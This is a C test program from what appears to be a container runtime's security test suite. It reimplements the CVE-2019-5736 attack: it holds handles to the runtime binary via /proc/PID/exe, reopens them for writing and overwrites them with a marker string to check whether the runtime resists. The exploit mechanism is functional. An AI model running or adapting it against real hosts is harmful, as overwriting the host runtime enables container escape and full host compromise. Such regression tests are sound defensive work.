/* SPDX-License-Identifier: GPL-2.0-or-later */
/* The CVE-2019-5736 attack, run inside a container that holds
 * CAP_SYS_PTRACE, for tests/security/runtime-exe-ptrace.bats.
 *
 * Until the file GO exists, it watches every process it can see and opens
 * the /proc/PID/exe (O_PATH, kept open) of any whose program is neither
 * itself nor /bin/busybox: the runtime's image, in a waiting init or in an
 * exec's or a joining container's child before its exec.  Once GO exists,
 * it reopens each kept fd through /proc/self/fd for reading and writing
 * and writes to it.  Each step goes to the file OUT, one line each:
 *   held PID TARGET            an exe was opened and kept
 *   reopen-rw TARGET ok|ERRNO  the reopen for writing
 *   write TARGET ok|ERRNO      the write
 *   done
 * TARGET is what /proc/self/fd/N reads (for a sealed copy, "/memfd:...").
 *
 * Static, so that it runs in the busybox rootfs.  Usage: exe_attacker OUT GO */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <sched.h>
#include <unistd.h>

#define MAX_HELD 64

struct held {
    int fd;
    char target[256];
};

static FILE *out;

static bool same_file(const struct stat *a, const struct stat *b)
{
    return a->st_dev == b->st_dev && a->st_ino == b->st_ino;
}

static void fd_target(int fd, char *buf, size_t size)
{
    char link[64];
    snprintf(link, sizeof(link), "/proc/self/fd/%d", fd);
    ssize_t n = readlink(link, buf, size - 1);
    buf[n < 0 ? 0 : n] = '\0';
}

static bool already_held(pid_t pid, const bool *pids)
{
    return pid < 4194304 && pids[pid];
}

/* One pass over /proc: keep the exe of every process that runs something
 * other than us and busybox. */
static void scan(struct held *h, size_t *n, bool *pids, const struct stat *ours)
{
    DIR *d = opendir("/proc");
    if (d == NULL)
        return;
    struct dirent *e;
    while ((e = readdir(d)) != NULL && *n < MAX_HELD) {
        pid_t pid = (pid_t)atoi(e->d_name);
        if (pid <= 0 || pid == getpid() || already_held(pid, pids))
            continue;
        char path[64];
        snprintf(path, sizeof(path), "/proc/%d/exe", pid);
        int fd = open(path, O_PATH | O_CLOEXEC);
        struct stat st;
        if (fd < 0)
            continue;
        if (fstat(fd, &st) < 0 || same_file(&st, &ours[0]) || same_file(&st, &ours[1])) {
            close(fd);
            continue;
        }
        pids[pid] = true;
        h[*n].fd = fd;
        fd_target(fd, h[*n].target, sizeof(h[*n].target));
        fprintf(out, "held %d %s\n", pid, h[*n].target);
        fflush(out);
        (*n)++;
    }
    closedir(d);
}

/* Reopen for writing, waiting out ETXTBSY (something may still run it). */
static int reopen_rw(int fd)
{
    char path[64];
    snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
    for (int i = 0; i < 200; i++) {
        int w = open(path, O_RDWR | O_CLOEXEC);
        if (w >= 0 || errno != ETXTBSY)
            return w;
        usleep(10000);
    }
    return -1;
}

static void attack(const struct held *h)
{
    int w = reopen_rw(h->fd);
    fprintf(out, "reopen-rw %s %s\n", h->target, w >= 0 ? "ok" : strerrorname_np(errno));
    if (w < 0)
        return;
    static const char mark[] = "exe-attacker was here";
    ssize_t r = pwrite(w, mark, sizeof(mark), 0);
    fprintf(out, "write %s %s\n", h->target, r > 0 ? "ok" : strerrorname_np(errno));
    close(w);
}

int main(int argc, char **argv)
{
    if (argc != 3) {
        fprintf(stderr, "usage: exe_attacker OUT GO\n");
        return 2;
    }
    out = fopen(argv[1], "we");
    struct stat ours[2];
    if (out == NULL || stat("/proc/self/exe", &ours[0]) < 0 || stat("/bin/busybox", &ours[1]) < 0) {
        perror("exe_attacker");
        return 1;
    }
    static bool pids[4194304];
    static struct held held[MAX_HELD];
    size_t n = 0;
    while (access(argv[2], F_OK) < 0) {
        scan(held, &n, pids, ours);
        sched_yield(); /* the machine may have few cores */
    }
    for (size_t i = 0; i < n; i++)
        attack(&held[i]);
    fprintf(out, "done\n");
    fclose(out);
    return 0;
}
